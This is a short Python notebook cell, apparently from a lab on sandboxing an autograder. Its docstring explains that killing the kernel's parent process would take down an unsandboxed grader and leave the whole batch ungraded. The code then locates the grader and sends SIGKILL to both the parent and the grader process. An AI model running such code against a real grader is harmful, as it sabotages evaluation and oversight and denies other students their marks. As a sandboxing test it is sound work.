# ruff: noqa: F821, E402 -- notebook cells: toolkit.py's names come from an earlier cell
"""`os.kill(os.getppid(), 9)`, on a solved lab.

Today the kernel's parent is the grader: the whole batch dies, no CSV, no JSON, nobody
graded. A sandboxed notebook's parent is inside the sandbox. The cell that kills its
sandbox is skipped when the notebook is run again, so the honest answers keep their
marks (14/14), and the classmates are graded as usual.
"""

# %%
import os
import signal

grader = find_grader()
os.kill(os.getppid(), signal.SIGKILL)
if grader is not None:
    os.kill(grader[0], signal.SIGKILL)
